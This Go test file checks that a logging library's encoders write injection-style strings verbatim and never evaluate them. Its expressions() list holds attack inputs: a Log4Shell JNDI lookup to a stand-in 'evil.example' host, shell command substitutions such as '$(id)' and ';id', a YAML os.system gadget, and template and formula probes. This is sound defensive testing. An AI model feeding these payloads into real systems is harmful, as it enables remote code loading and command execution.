package encode_test

import (
	"bytes"
	"log/slog"
	"strings"
	"testing"

	"github.com/slogship/slogship/encode"
)

// expressions are texts that some logger, shell, template engine or loader has
// evaluated. None has a character that a format has to escape, but for "]".
func expressions() []string {
	return []string{
		"${jndi:ldap://evil.example/x}", "${env:SLOGSHIP_S8}", "${SLOGSHIP_S8}", "$SLOGSHIP_S8", "%SLOGSHIP_S8%", "$(id)", "`id`", "#{7919*7}", "{{7919*7}}",
		"{{.Record.Message}}", "{{ printf }}", "<%= 7919*7 %>", "{% include x %}", "%s%n%d%x%v", "%!s(MISSING)", "%{[@metadata][index]}", "$[7919*7]", "@{7919*7}",
		"!!python/object/apply:os.system", "!ruby/object", "=7919*7", "+7919*7", "@SUM(7919*7)", "&x;", "<!ENTITY x>", "{0}", "{}", "$1", "*x", "~root", "|id", ";id",
	}
}

// verbatims are all encoders, and whether a key may hold every character.
func verbatims() map[string]struct {
	enc  encode.Encoder
	keys bool
} {
	return map[string]struct {
		enc  encode.Encoder
		keys bool
	}{
		"JSONLines": {encode.JSONLines{}, true},
		"ECS":       {encode.ECS{}, false}, // dots nest
		"GELF":      {encode.GELF{}, false},
		"Logfmt":    {encode.Logfmt{}, false},
		"Text":      {encode.Text{}, false},
		"Protobuf":  {encode.Protobuf{}, true},
		"Pickle":    {encode.Pickle{}, true},
		"RFC5424":   {encode.RFC5424{}, false},
		"RFC3164":   {encode.RFC3164{}, false},
		"Journal":   {encode.Journal{}, false},
	}
}

// S8: log data is data. What looks like an expression arrives as it was logged, as
// a message, as a value and, where the format has such keys, as a key; nothing of
// the process gets into it.
func TestS8_Verbatim(t *testing.T) {
	const secret = "found-0815"
	t.Setenv("SLOGSHIP_S8", secret)
	seen, evaluated := 0, 0
	for name, format := range verbatims() {
		for _, text := range expressions() {
			rec := encode.Record{
				ID: encode.ID{1}, Time: at(0), Message: "m " + text + " m", Resource: &encode.Resource{Service: "shop"},
				Attrs: []slog.Attr{slog.String("value", "v "+text+" v"), slog.String(text, "k"), slog.Group("g", slog.String("in", "g "+text+" g"))},
			}
			out, err := format.enc.AppendRecord(nil, &rec)
			if err != nil {
				t.Errorf("%s: %q: %v", name, text, err)
			}
			out = bytes.ReplaceAll(out, []byte(`\]`), []byte("]")) // RFC 5424, 6.3.3
			want := []string{"m " + text + " m", "v " + text + " v", "g " + text + " g"}
			if format.keys {
				want = append(want, text)
			}
			for _, w := range want {
				seen++
				if !bytes.Contains(out, []byte(w)) {
					evaluated++
					t.Errorf("%s: %q is not in %q", name, w, out)
				}
			}
			if bytes.Contains(out, []byte(secret)) || strings.Contains(string(out), "55433") && strings.Contains(text, "7919*7") {
				evaluated++
				t.Errorf("%s: %q was evaluated: %q", name, text, out)
			}
		}
	}
	t.Logf("S8: %d texts in %d encoders, %d looked for, evaluated or changed %d", len(expressions()), len(verbatims()), seen, evaluated)
}
